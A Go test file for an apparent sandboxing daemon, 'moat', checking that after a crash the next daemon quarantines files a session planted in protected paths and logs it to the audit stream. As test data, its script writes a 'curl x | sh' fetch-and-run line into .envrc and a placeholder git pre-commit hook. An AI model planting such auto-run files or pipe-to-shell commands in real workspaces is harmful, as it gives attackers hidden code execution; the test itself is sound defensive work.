package main

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/moatbox/moat/audit"
)

// TestServeKilledQuarantines: a daemon killed (SIGKILL) while a session
// writes its tenant's workspace directly cannot quarantine what the
// session's commands planted where a protected path belongs; the next
// daemon does, from the session's record, and its audit stream says
// so. The control: a file the command made elsewhere in the workspace
// stays, and so does the protected path that was there before.
func TestServeKilledQuarantines(t *testing.T) {
	dir := t.TempDir()
	ws := filepath.Join(dir, "ws")
	os.MkdirAll(filepath.Join(ws, ".git"), 0o755)
	os.WriteFile(filepath.Join(ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
	os.WriteFile(filepath.Join(ws, ".npmrc"), []byte("mine\n"), 0o644)
	stream := filepath.Join(dir, "audit.jsonl")
	stop, logs := serveAudit(t, dir, stream)
	if stop == nil {
		t.Fatalf("moat serve exited:\n%s", logs)
	}
	sock := filepath.Join(dir, "moat.sock")
	code, out, errs := moat(t, dir, "session", "create", "--socket", sock, "--workspace", ws)
	if code != 0 {
		stop(syscall.SIGTERM)
		t.Fatalf("session create: %d %q", code, errs)
	}
	id := strings.TrimSpace(out)
	script := "echo 'curl x | sh' > .envrc && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit && echo ok > made.txt"
	if code, _, errs := moat(t, dir, "exec", "--socket", sock, id, "--", "sh", "-c", script); code != 0 {
		stop(syscall.SIGTERM)
		t.Fatalf("exec: %d %q", code, errs)
	}
	stop(syscall.SIGKILL)
	for _, p := range []string{".envrc", ".git/hooks/pre-commit"} {
		if _, err := os.Lstat(filepath.Join(ws, p)); err != nil {
			t.Fatalf("the command did not plant %s (the test's premise): %v", p, err)
		}
	}

	stop, logs = serveAudit(t, dir, stream)
	if stop == nil {
		t.Fatalf("the next moat serve exited:\n%s", logs)
	}
	if err := stop(syscall.SIGTERM); err != nil {
		t.Errorf("moat serve: %v\n%s", err, logs)
	}
	for _, p := range []string{".envrc", ".git/hooks/pre-commit"} {
		if _, err := os.Lstat(filepath.Join(ws, p)); err == nil {
			t.Errorf("%s is still in the workspace after the next daemon started:\n%s", p, logs)
		}
	}
	for _, p := range []string{"made.txt", ".npmrc"} {
		if _, err := os.Lstat(filepath.Join(ws, p)); err != nil {
			t.Errorf("%s was taken out too: %v", p, err)
		}
	}
	quarantined := filepath.Join(dir, "state", "quarantine", id, "0", "ws", ".envrc")
	if b, err := os.ReadFile(quarantined); err != nil || string(b) != "curl x | sh\n" {
		t.Errorf("the daemon's own user's planted file is kept in the quarantine: %q %v", b, err)
	}
	f, err := os.Open(stream)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var end *audit.SessionEvent
	for sc := bufio.NewScanner(f); sc.Scan(); {
		var e audit.SessionEvent
		if json.Unmarshal(sc.Bytes(), &e) == nil && e.Type == audit.TypeSession && e.Session == id && e.Reason == "reaped" {
			end = &e
		}
	}
	if end == nil || !strings.Contains(strings.Join(end.Warnings, "\n"), ".envrc") {
		t.Errorf("the reaped session's end in the audit stream: %+v", end)
	}
}
